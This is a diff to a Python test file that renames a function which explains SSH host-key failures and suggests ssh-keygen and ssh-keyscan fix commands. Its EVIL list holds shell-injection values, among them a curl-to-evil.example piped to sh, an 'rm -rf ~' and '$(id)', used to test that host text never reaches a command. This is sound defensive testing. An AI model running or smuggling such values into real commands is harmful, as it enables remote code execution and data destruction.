@@ -5,7 +5,7 @@ import shlex
 
 import pytest
 
-from rekindle.results.host_keys import host_key
+from rekindle.results.host_keys import describe_host_key
 
 SSH = "Failed to connect to the host via ssh: "
 STRICT = "and you have requested strict checking.\r\nHost key verification failed."
@@ -35,20 +35,20 @@ KNOWN = ">> ~/.ssh/known_hosts"
     ],
 )
 def test_ssh_s_message_is_one_sentence_and_what_to_type(message, left):
-    assert str(host_key(f"{SSH}{message}", "192.0.2.7")) == left
+    assert str(describe_host_key(f"{SSH}{message}", "192.0.2.7")) == left
 
 
 def test_a_port_of_its_own_is_in_both_commands():
     changed = f"Host key for [192.0.2.7]:2222 has changed {STRICT}"
     assert (
         f"ssh-keygen -R '[192.0.2.7]:2222' && ssh-keyscan -H -p 2222 192.0.2.7 {KNOWN}"
-        in host_key(changed, "192.0.2.7", 2222).fix
+        in describe_host_key(changed, "192.0.2.7", 2222).fix
     )
 
 
 def test_another_failure_is_none_of_a_key():
     refused = "ssh: connect to host 192.0.2.7 port 22: Connection refused"
-    assert host_key(f"{SSH}{refused}", "192.0.2.7") is None
+    assert describe_host_key(f"{SSH}{refused}", "192.0.2.7") is None
 
 
 EVIL = ["gpu-1;curl${IFS}evil.example|sh;:", "other.host", "$(id)", "'; rm -rf ~; '", "`id`"]
@@ -57,14 +57,14 @@ EVIL = ["gpu-1;curl${IFS}evil.example|sh;:", "other.host", "$(id)", "'; rm -rf ~
 @pytest.mark.parametrize("words", EVIL)
 @pytest.mark.parametrize("said", ["No ED25519 host key is known for {} {}", "Host key for {} has changed {}"])
 def test_nothing_that_a_host_says_is_in_a_command(words, said):
-    complaint = host_key(f"{SSH}{said.format(words, STRICT)}", "192.0.2.7")
+    complaint = describe_host_key(f"{SSH}{said.format(words, STRICT)}", "192.0.2.7")
     assert words not in str(complaint)
     assert "ssh-keyscan -H 192.0.2.7 >>" in complaint.fix
 
 
 @pytest.mark.parametrize("address", EVIL)
 def test_an_address_is_one_word_of_the_command(address):
-    complaint = host_key(f"Host key for x has changed {STRICT}", address, 2222)
+    complaint = describe_host_key(f"Host key for x has changed {STRICT}", address, 2222)
     command = complaint.fix.removeprefix("if it was rebuilt: ").partition("; else")[0]
     if "; else" not in address:
         assert shlex.split(command)[2] == f"[{address}]:2222"
